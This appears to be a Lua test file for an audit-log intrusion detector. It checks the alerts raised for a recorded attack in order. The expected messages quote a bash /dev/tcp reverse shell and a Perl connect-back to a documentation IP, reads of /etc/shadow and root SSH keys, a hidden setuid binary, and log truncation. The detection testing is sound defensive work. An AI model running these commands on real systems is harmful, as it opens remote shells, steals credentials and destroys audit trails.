-- luacheck: no max line length
package.path = 'spec/policies/?.lua;' .. package.path
local scenes = require 'scenes'
local test = require 'audit.test'

--- What a reader of examples/intrusion.log should be told, in the order in which it happened.
local EXPECTED = {
  [[password-guessing medium: 5 failed passwords from 203.0.113.66 within 5 minutes, the last for alice]],
  [[web-shell critical: The web server's account www-data started a shell (pid N): sh -c getent hosts ; bash -c "exec bash </dev/tcp/203.0.113.66/4444 >&1 2>&1"]],
  [[web-shell critical: The web server's account www-data started a shell (pid N): bash -c exec bash </dev/tcp/203.0.113.66/4444 >&1 2>&1]],
  [[interpreter-connect high: A service running as www-data connected to 203.0.113.66 port 4444 with /usr/bin/bash: bash -c exec bash </dev/tcp/203.0.113.66/4444 >&1 2>&1 (pid N)]],
  [[secrets-read medium: A service running as www-data was refused /etc/shadow with /usr/bin/cat (pid N)]],
  [[password-guessing critical: alice is in from 203.0.113.66 after 14 failed passwords within 5 minutes]],
  [[root-shell medium: alice has a root shell: /usr/bin/bash on pts1 (pid N)]],
  [[secrets-read high: alice as root opened /etc/shadow with /usr/bin/cat (pid N)]],
  [[secrets-read high: alice as root opened /root/.ssh/id_ed25519 with /usr/bin/python3.11 (pid N)]],
  [[setuid-made high: alice as root made /usr/local/bin/.update setuid (mode 4755, owner root) with /usr/bin/chmod (pid N)]],
  [[world-writable-program medium: alice as root ran /dev/shm/.x/kworker (pid N): everybody may write there]],
  [[interpreter-connect high: alice as root connected to 203.0.113.66 port 8443 with /usr/bin/perl: perl -MSocket -e socket(S,PF_INET,SOCK_STREAM,6); connect(S,sockaddr_in(8443,inet_aton("203.0.113.66"))) (pid N)]],
  [[kernel-module high: alice as root loaded the kernel module dummy with /usr/bin/kmod: insmod /dev/shm/.x/diag.ko (pid N)]],
  [[audit-files high: alice as root opened /var/log/audit/audit.log.1 for writing with /usr/bin/truncate (pid N)]],
  [[audit-files high: alice as root opened /var/log/audit/audit.log for writing with /usr/bin/touch (pid N)]],
  [[audit-rules high: alice as root is removing audit rules, first the one with key "commands" (auditctl -D)]],
  [[audit-daemon critical: alice stopped the audit daemon: the recording ends here]],
}

describe('the recorded intrusion', function()
  local file = assert(io.open('examples/intrusion.log', 'rb'))
  local text = file:read '*a'
  file:close()

  it('is told step by step, and nothing else is', function()
    local told = {}
    for i, alert in ipairs(test.replay(text, { policies = scenes.policies() }).alerts) do
      told[i] = ('%s %s: %s'):format(alert.policy, alert.severity,
        alert.message:gsub('pid %d+', 'pid N'))
    end
    assert.same(EXPECTED, told)
  end)

  it('is told with numbers where the log has no names', function()
    local raw = text:gsub('\29[^\n]*', '')
    local alerts = test.replay(raw, { policies = scenes.policies() }).alerts
    assert.equal(#EXPECTED, #alerts)
    assert.is_truthy(alerts[2].message:find("The web server's account 33 started a shell", 1, true))
    assert.is_truthy(alerts[7].message:find('User 1000 has a root shell', 1, true))
  end)
end)
